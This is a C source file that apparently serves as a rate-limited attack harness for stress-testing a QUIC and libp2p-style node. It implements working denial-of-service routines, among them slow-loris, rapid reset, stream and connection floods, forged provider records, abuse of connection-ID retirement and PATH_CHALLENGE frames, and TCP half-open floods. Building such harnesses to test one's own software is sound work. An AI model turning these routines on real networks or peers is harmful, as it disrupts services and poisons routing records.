/* The attacks. Each bounds its own rate, so that what is measured is the worker's part of the work,
 * not the attacker's. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "host/sockaddr.h"

#define GARBAGE_PER_TURN    20
#define HALF_OPEN_PER_TURN  2
#define FULL_ATTEMPTS       10000
#define FULL_AT_A_TIME      64
#define STREAMS_PER_TURN    50
#define CONNECTIONS_AT_ONCE 8
#define FRAMES_BYTES        (400 << 10) /* in one connection: its window is not given back */
#define TCP_SOCKETS_MAX     400
#define TCP_PER_TURN        2

#define MULTISTREAM "\x13/multistream/1.0.0\n"

/* --- datagrams -------------------------------------------------------------------------------- */

static void garbage(struct attacker *attacker) {
    uint8_t bytes[1400];
    for (int i = 0; i < GARBAGE_PER_TURN; i++) {
        random_fill(&attacker->random, (struct span){bytes, sizeof(bytes)});
        size_t size = 1 + (size_t)bytes[5] * 5;
        if (i % 4 == 1) { /* looks like an Initial of version 1 */
            static const uint8_t head[] = {0xc3, 0, 0, 0, 1, 8};
            memcpy(bytes, head, sizeof(head));
            size = 1200;
        } else if (i % 4 == 2) { /* a short header */
            bytes[0] = 0x40 | (bytes[0] & 0x3f);
        }
        wire_send(attacker, bytes_of(bytes, size));
    }
}

static void half_open(struct attacker *attacker) {
    for (int i = 0; i < HALF_OPEN_PER_TURN; i++) {
        (void)wire_dial(attacker);
    }
}

/* --- connections ------------------------------------------------------------------------------ */

static void connections(struct attacker *attacker) {
    size_t under_way = attacker->live - attacker->conn_count;
    while (under_way++ < FULL_AT_A_TIME && attacker->dialled < FULL_ATTEMPTS) {
        (void)wire_dial(attacker);
    }
}

static void keep_connected(struct attacker *attacker) {
    while (attacker->live < CONNECTIONS_AT_ONCE) {
        if (!wire_dial(attacker)) {
            return;
        }
    }
}

/* --- streams ---------------------------------------------------------------------------------- */

static void spray(struct attacker *attacker, struct bytes bytes, bool fin) {
    keep_connected(attacker);
    for (int i = 0; i < STREAMS_PER_TURN && attacker->conn_count > 0; i++) {
        struct quic_conn *conn = attacker->conns[(size_t)i % attacker->conn_count];
        if (wire_stream(attacker, conn, bytes, fin) == NULL) {
            return;
        }
    }
}

/* A byte of a proposal, and the rest never. */
static void stream_flood(struct attacker *attacker) {
    spray(attacker, BYTES_LITERAL("\x13"), false);
}

/* Each stream gets one byte a while. */
static void slow_loris(struct attacker *attacker) {
    static nanos next;
    spray(attacker, BYTES_LITERAL("\x13"), false);
    if (attacker->now < next) {
        return;
    }
    next = attacker->now + NANOS_SECOND;
    for (size_t i = 0; i < attacker->conn_count; i++) {
        struct list *streams = &attacker->conns[i]->streams;
        for (struct list_node *node = list_first(streams); node != NULL;
             node = list_next(streams, node)) {
            struct block *block = block_copy(&attacker->memory, BYTES_LITERAL("/"));
            size_t accepted;
            (void)!quic_stream_write(CONTAINER_OF(node, struct quic_stream, node), block, 0, 1,
                                     false, &accepted);
            block_unref(block);
        }
    }
}

static void rapid_reset(struct attacker *attacker) {
    keep_connected(attacker);
    for (int i = 0; i < STREAMS_PER_TURN && attacker->conn_count > 0; i++) {
        struct quic_conn *conn = attacker->conns[(size_t)i % attacker->conn_count];
        struct quic_stream *stream = wire_stream(attacker, conn, BYTES_LITERAL(MULTISTREAM), false);
        if (stream == NULL) {
            return;
        }
        quic_stream_reset(stream, 7);
        quic_stream_stop(stream, 7);
    }
}

static void varints(struct attacker *attacker) {
    spray(attacker, BYTES_LITERAL("\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x7f"), true);
}

static void identify_flood(struct attacker *attacker) {
    spray(attacker, BYTES_LITERAL(MULTISTREAM "\x0f/ipfs/id/1.0.0\n"), false);
}

/* ADD_PROVIDER for a random key, in the name of somebody else. */
static void providers(struct attacker *attacker) {
    static const char head[] = MULTISTREAM "\x11/phase/kad/1.0.0\n";
    uint8_t bytes[256];
    size_t size = sizeof(head) - 1;
    memcpy(bytes, head, size);
    static const uint8_t record[] = {0x08, 0x02, 0x12, 0x22, 0x12, 0x20};
    uint8_t *message = bytes + size + 1;
    size_t at = 0;
    memcpy(message, record, sizeof(record));
    at += sizeof(record);
    random_fill(&attacker->random, (struct span){message + at, 32});
    at += 32;
    static const uint8_t provider[] = {0x4a, 0x30, 0x0a, 0x26, 0x00, 0x24, 0x08, 0x01, 0x12, 0x20};
    memcpy(message + at, provider, sizeof(provider));
    at += sizeof(provider);
    random_fill(&attacker->random, (struct span){message + at, 32});
    at += 32;
    static const uint8_t address[] = {0x12, 0x06, 0x04, 127, 0, 0, 1, 0};
    memcpy(message + at, address, sizeof(address));
    at += sizeof(address);
    bytes[size] = (uint8_t)at;
    spray(attacker, bytes_of(bytes, size + 1 + at), true);
}

static void offers(struct attacker *attacker) {
    spray(attacker, BYTES_LITERAL(MULTISTREAM "\x11/phase/job/1.0.0\n\x06\x0a\x04{\"a\""), false);
}

/* --- frames ----------------------------------------------------------------------------------- */

static uint64_t sequence = 2;

static size_t put_varint8(uint8_t *room, uint64_t value) {
    for (size_t i = 0; i < 8; i++) {
        room[i] = (uint8_t)(value >> (56 - 8 * i));
    }
    room[0] |= 0xc0;
    return 8;
}

/* PATH_CHALLENGE, as many as fit. */
static size_t challenges(uint8_t *room, size_t size) {
    size_t at = 0;
    for (; at + 9 <= size; at += 9) {
        room[at] = 0x1a;
        memcpy(room + at + 1, &sequence, sizeof(sequence));
        sequence++;
    }
    return at;
}

/* NEW_CONNECTION_ID, each retiring all before it: each wants a RETIRE_CONNECTION_ID. */
static size_t retirements(uint8_t *room, size_t size) {
    size_t at = 0;
    while (at + 42 <= size) {
        room[at++] = 0x18;
        at += put_varint8(room + at, sequence);
        at += put_varint8(room + at, sequence);
        room[at++] = 8;
        memset(room + at, 0xab, 24);
        memcpy(room + at, &sequence, sizeof(sequence));
        memcpy(room + at + 8, &sequence, sizeof(sequence));
        at += 24;
        sequence++;
    }
    return at;
}

/* STREAM far beyond the window. */
static size_t beyond_window(uint8_t *room, size_t size) {
    if (size < 12) {
        return 0;
    }
    room[0] = 0x0e;
    room[1] = 0x00;
    size_t at = 2 + put_varint8(room + 2, UINT64_C(1) << 40);
    room[at++] = 0x01;
    room[at++] = 'x';
    return at;
}

/* MAX_DATA, one more each time. */
static size_t stray(uint8_t *room, size_t size) {
    size_t at = 0;
    while (at + 18 <= size && at < 900) {
        room[at++] = 0x10; /* MAX_DATA */
        at += put_varint8(room + at, sequence++);
    }
    return at;
}

static void frames_of(struct attacker *attacker, frame_maker *maker) {
    wire_replace_frames(attacker->conn_count > 0 ? maker : NULL);
    if (attacker->live < 1) {
        (void)wire_dial(attacker);
    }
    static uint8_t zeros[1100];
    for (size_t i = 0; i < attacker->conn_count; i++) {
        struct quic_conn *conn = attacker->conns[i];
        if (conn->streams.size * sizeof(zeros) >= FRAMES_BYTES || conn->streams.size >= 200) {
            quic_conn_close(conn, 0, "", attacker->now);
            return;
        }
        for (int k = 0; k < 4; k++) {
            (void)wire_stream(attacker, conn, BYTES_ARRAY(zeros), false);
        }
    }
}

static void path_challenges(struct attacker *attacker) {
    frames_of(attacker, challenges);
}
static void cid_retirement(struct attacker *attacker) {
    frames_of(attacker, retirements);
}
static void window_abuse(struct attacker *attacker) {
    frames_of(attacker, beyond_window);
}
static void window_updates(struct attacker *attacker) {
    frames_of(attacker, stray);
}

/* --- TCP -------------------------------------------------------------------------------------- */

static int tcp_sockets[TCP_SOCKETS_MAX];
static size_t tcp_count;

static int tcp_dial(struct attacker *attacker) {
    struct sockaddr_storage storage;
    socklen_t size = sockaddr_from_netaddr(&attacker->target, &storage);
    int fd = socket(storage.ss_family, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (fd < 0) {
        return -1;
    }
    if (connect(fd, (struct sockaddr *)&storage, size) != 0 && errno != EINPROGRESS) {
        (void)close(fd);
        return -1;
    }
    attacker->dialled++;
    return fd;
}

static void tcp_spray(struct attacker *attacker, struct bytes bytes) {
    for (int i = 0; i < TCP_PER_TURN && tcp_count < TCP_SOCKETS_MAX; i++) {
        int fd = tcp_dial(attacker);
        if (fd >= 0) {
            tcp_sockets[tcp_count++] = fd;
        }
    }
    for (size_t i = 0; i < tcp_count;) {
        char room[512];
        ssize_t got = recv(tcp_sockets[i], room, sizeof(room), MSG_DONTWAIT);
        bool over = got == 0 || (got < 0 && errno != EAGAIN && errno != ENOTCONN);
        if (!over && bytes.size > 0) {
            over = send(tcp_sockets[i], bytes.data, bytes.size, MSG_NOSIGNAL | MSG_DONTWAIT) < 0 &&
                   errno != EAGAIN && errno != ENOTCONN;
        }
        if (over) {
            attacker->closed++;
            (void)close(tcp_sockets[i]);
            tcp_sockets[i] = tcp_sockets[--tcp_count];
        } else {
            i++;
        }
    }
}

static void tcp_silence(struct attacker *attacker) {
    tcp_spray(attacker, bytes_of(NULL, 0));
}

static void tcp_garbage(struct attacker *attacker) {
    uint8_t bytes[128];
    random_fill(&attacker->random, (struct span){bytes, sizeof(bytes)});
    tcp_spray(attacker, BYTES_ARRAY(bytes));
}

/* A Noise handshake that begins and says a byte now and then. */
static void tcp_half_open(struct attacker *attacker) {
    static nanos next;
    bool due = attacker->now >= next;
    next = due ? attacker->now + NANOS_SECOND : next;
    tcp_spray(attacker, due ? BYTES_LITERAL("\x13") : bytes_of(NULL, 0));
}

const struct attack attacks[] = {
    {"garbage", garbage, false, true, "datagrams of noise, some looking like QUIC", NULL},
    {"half-open", half_open, false, true, "QUIC handshakes that are never ended", NULL},
    {"connections", connections, false, false, "10,000 connections, kept", NULL},
    {"slow-loris", slow_loris, false, false, "streams that say a byte a second", NULL},
    {"stream-flood", stream_flood, false, false, "as many streams as there can be, kept", NULL},
    {"rapid-reset", rapid_reset, false, false, "streams opened and reset at once", NULL},
    {"varints", varints, false, false, "lengths that are too long", NULL},
    {"identify-flood", identify_flood, false, false, "identify, again and again", NULL},
    {"providers", providers, false, false, "bogus provider records", NULL},
    {"offers", offers, false, false, "bad job offers", NULL},
    {"cid-retirement", cid_retirement, false, false, "connection ids that retire each other", NULL},
    {"path-challenges", path_challenges, false, false, "PATH_CHALLENGE without end", NULL},
    {"window-abuse", window_abuse, false, false, "data beyond the window", NULL},
    {"window-updates", window_updates, false, false, "MAX_DATA without end", NULL},
    {"tcp-silence", tcp_silence, true, false, "TCP connections that say nothing", NULL},
    {"tcp-garbage", tcp_garbage, true, false, "TCP connections that say noise", NULL},
    {"tcp-half-open", tcp_half_open, true, false, "TCP handshakes, a byte a second", NULL},
};
const size_t attack_count = ARRAY_SIZE(attacks);
